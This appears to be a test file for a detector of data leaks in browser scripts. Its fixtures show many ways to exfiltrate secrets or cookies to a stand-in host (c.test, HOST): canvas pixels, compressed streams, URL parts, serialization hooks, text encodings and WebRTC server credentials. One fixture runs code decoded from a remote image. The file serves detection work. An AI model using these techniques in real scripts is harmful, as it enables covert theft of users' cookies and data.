import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";
import { sinksOf, traceOf } from "../testing/trace-of.ts";

const CANVAS = `const canvas = document.createElement("canvas"), pen = canvas.getContext("2d");`;

/** Data in streams, in addresses built step by step, and in serialized objects. */
const FLOWS: readonly DataFlow[] = [
	[
		"pixels of a new picture",
		`${CANVAS} const image = new ImageData(new Uint8ClampedArray(400), 10, 10); for (let at = 0; at < SECRET.length; at++) image.data[at * 4] = SECRET.charCodeAt(at); fetch("HOST", { method: "POST", body: image.data });`,
	],
	[
		"a compressed stream",
		`new Response(new Blob([SECRET]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer().then((body) => fetch("HOST", { method: "POST", body }));`,
	],
	[
		"a stream of its own",
		`const stream = new ReadableStream({ start(control) { control.enqueue(SECRET); control.close(); } }); fetch("HOST", { method: "POST", body: stream, duplex: "half" });`,
	],
	[
		"the writer of a stream",
		`const pair = new CompressionStream("gzip"); const writer = pair.writable.getWriter(); writer.write(new TextEncoder().encode(SECRET)); writer.close(); new Response(pair.readable).blob().then((body) => fetch("HOST", { method: "POST", body }));`,
	],
	[
		"the reader of a stream",
		`new Blob([SECRET]).stream().getReader().read().then(({ value }) => navigator.sendBeacon("HOST", value));`,
	],
	[
		"a stream that changes what passes",
		`const pair = new TransformStream({ transform(part, control) { control.enqueue(part + "!"); } }); (async () => { for await (const part of new Blob([SECRET]).stream().pipeThrough(pair)) fetch("HOST/" + part); })();`,
	],
	[
		"bytes encoded into bytes",
		`const bytes = new Uint8Array(999); new TextEncoder().encodeInto(SECRET, bytes); navigator.sendBeacon("HOST", bytes);`,
	],
	["the buffer of bytes", `navigator.sendBeacon("HOST", new TextEncoder().encode(SECRET).buffer);`],
	[
		"the search of a link",
		`const link = document.createElement("a"); link.href = "HOST/x"; link.search = new URLSearchParams({ q: SECRET }); fetch(link.href);`,
	],
	[
		"the path of a link",
		`const link = document.createElement("a"); link.href = "HOST/"; link.pathname = SECRET; new Image().src = link.href;`,
	],
	["the user of an address", `const to = new URL("HOST"); to.username = SECRET; fetch(to.href);`],
	["history's state", `history.replaceState({ text: SECRET }, ""); fetch("HOST/" + history.state.text);`],
	[
		"a replacer",
		`fetch("HOST", { method: "POST", body: JSON.stringify({ a: 1 }, (name, value) => (name === "a" ? SECRET : value)) });`,
	],
	["valueOf", `const bag = { valueOf() { return SECRET; } }; fetch("HOST/" + bag);`],
	["Symbol.toPrimitive", `const bag = { [Symbol.toPrimitive]() { return SECRET; } }; fetch(\`HOST/\${bag}\`);`],
	[
		"where its signs stand",
		`const signs = "abcdefghijklmnopqrstuvwxyz"; let made = ""; for (const c of SECRET) made += signs[(signs.indexOf(c) + 13) % 26]; fetch("HOST/" + made);`,
	],
	[
		"bits written as words",
		`const text = SECRET, made = []; for (let at = 0; at < text.length; at++) for (let bit = 7; bit >= 0; bit--) made.push((text.charCodeAt(at) >> bit) & 1 ? "x" : "y"); fetch("HOST/" + made.join(""));`,
	],
	["a promise nobody knows", `chrome.later().then(() => ({ text: SECRET })).then((bag) => fetch("HOST/" + bag.text));`],
];

const POSTS = `.toBlob((body) => fetch("https://c.test", { method: "POST", body }));`;

/** Their address passes through items or members that a skeptical run doubts. */
const DOUBTED = new Set(["the search of a link", "the path of a link"]);

describe("data in streams and parts of addresses", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (title, code) =>
		expectHarmlessOnOwnSite(code, DOUBTED.has(title) ? "amber" : "green"),
	);
});

describe("what is painted", () => {
	test.each([
		[
			"pixels",
			`${CANVAS} const image = pen.getImageData(0, 0, 9, 9); [...document.cookie].forEach((c, at) => { image.data[at * 4] = c.charCodeAt(0); }); pen.putImageData(image, 0, 0); canvas${POSTS}`,
		],
		[
			"colors",
			`${CANVAS} [...document.cookie].forEach((c, at) => { pen.fillStyle = "rgb(" + c.charCodeAt(0) + ",0,0)"; pen.fillRect(at, 0, 1, 1); }); canvas${POSTS}`,
		],
		["text", `${CANVAS} pen.fillText(document.cookie, 0, 0); canvas${POSTS}`],
		[
			"a canvas on another",
			`${CANVAS} pen.fillText(document.cookie, 0, 0); const other = new OffscreenCanvas(9, 9); other.getContext("2d").drawImage(canvas, 0, 0); other.convertToBlob().then((body) => fetch("https://c.test", { method: "POST", body }));`,
		],
	])("%s can be read from the picture", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test("a stranger's picture is a stranger's data", () => {
		const code = `${CANVAS} const image = new Image(); image.src = "https://c.test/a.png";
			image.decode().then(() => image).then((shown) => { pen.drawImage(shown, 0, 0); const { data } = pen.getImageData(0, 0, 9, 9); let text = ""; for (let at = 0; at < data.length; at += 4) text += String.fromCharCode(data[at]); new Function(text)(); });`;
		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^run-code Function < .*code remote/));
	});

	test.each([
		["a picture of the page", `${CANVAS} pen.drawImage(document.querySelector("img"), 0, 0); canvas${POSTS}`],
		[
			"a chart saved as a file",
			`${CANVAS} pen.fillStyle = "#333"; pen.fillText("Sum", 1, 1); const link = document.createElement("a"); link.href = canvas.toDataURL(); link.download = "chart.png"; link.click();`,
		],
	])("%s is no secret", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("green");
	});
});

describe("servers of a peer connection", () => {
	test.each([
		[
			"the name at a relay",
			`new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.example.org" }, { urls: "turn:c.test:3478", username: btoa(document.cookie), credential: "q" }] });`,
		],
		[
			"the password at one of several addresses",
			`new RTCPeerConnection({ iceServers: [{ urls: ["turn:c.test:3478", "turns:c.test"], username: "u", credential: document.cookie }] });`,
		],
		[
			"servers set later",
			`const peer = new RTCPeerConnection(); peer.setConfiguration({ iceServers: [{ url: "turn:c.test", username: document.cookie, credential: "x" }] });`,
		],
		[
			"the name of the host",
			`new RTCPeerConnection({ iceServers: [{ urls: "stun:" + btoa(document.cookie) + ".c.test:3478" }] });`,
		],
	])("%s sends the secret", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test("a public server receives no secret", () => {
		const { sinks } = traceOf(`new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.c.test" }] });`);
		expect(sinks.flatMap(({ carried }) => carried)).toEqual([]);
	});
});
